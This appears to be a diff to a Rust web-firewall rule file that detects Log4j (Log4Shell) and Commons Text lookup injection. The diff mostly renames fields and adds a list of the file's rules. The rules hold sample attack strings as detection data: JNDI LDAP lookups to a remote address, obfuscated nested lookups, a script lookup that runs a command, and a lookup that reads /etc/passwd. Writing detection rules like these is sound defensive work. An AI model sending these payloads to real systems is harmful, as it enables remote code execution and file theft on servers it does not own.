@@ -3,14 +3,17 @@
 use waf_shared::catalog::Leaf;
 
 use crate::field::Places;
-use crate::rule::{Rule, STRONG, Test};
+use crate::rule::{Rule, RuleMatcher, STRONG};
+
+/// The rules of this file.
+pub(super) static RULES: &[&Rule] = &[&NAMING_LOOKUP, &SPELT_LOOKUP, &TEXT_LOOKUP];
 
 pub(super) static NAMING_LOOKUP: Rule = Rule {
     id: "java-injection-log4shell/naming-lookup",
     leaf: Leaf::JavaInjectionLog4shell,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A Log4j lookup asks a naming service, plainly or once its nested lookups are evaluated.",
     attacks: &[
         "${jndi:ldap://203.0.113.5/a}",
@@ -24,7 +27,7 @@ pub(super) static NAMING_LOOKUP: Rule = Rule {
         "${:1337:-x$}{jndi:ldap://203.0.113.5/a}",
         "$${env:a:-${env:b:-$}{jndi:ldap://203.0.113.5/a}}}",
     ],
-    everyday: &[
+    benign: &[
         "${user.name}",
         "`Hello ${name}, you are ${age}`",
         "${HOME:-/root}",
@@ -38,7 +41,7 @@ pub(super) static SPELT_LOOKUP: Rule = Rule {
     leaf: Leaf::JavaInjectionLog4shell,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "The name of a Log4j lookup is spelt by nested lookups that yield single letters.",
     attacks: &[
         "${${::-j}${::-n}${::-d}x",
@@ -46,7 +49,7 @@ pub(super) static SPELT_LOOKUP: Rule = Rule {
         "${${env:A:-s}${env:B:-y}s:user.home}",
         "${${::-${::-$${::-j}}}}",
     ],
-    everyday: &["${a}${b}", "${outer:${inner}}", "`${list.map(x => `${x}`)}`", "${A:-b} ${C:-d}"],
+    benign: &["${a}${b}", "${outer:${inner}}", "`${list.map(x => `${x}`)}`", "${A:-b} ${C:-d}"],
 };
 
 pub(super) static TEXT_LOOKUP: Rule = Rule {
@@ -54,7 +57,7 @@ pub(super) static TEXT_LOOKUP: Rule = Rule {
     leaf: Leaf::JavaInjectionLog4shell,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A Commons Text lookup runs a script, resolves a name or fetches a file or URL.",
     attacks: &[
         "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
@@ -62,5 +65,5 @@ pub(super) static TEXT_LOOKUP: Rule = Rule {
         "${dns:address|x.example}",
         "${file:UTF-8:/etc/passwd}",
     ],
-    everyday: &["${url}", "${dns:-8.8.8.8}", "${script}", "${script: name}", "${url:-http://localhost}"],
+    benign: &["${url}", "${dns:-8.8.8.8}", "${script}", "${script: name}", "${url:-http://localhost}"],
 };
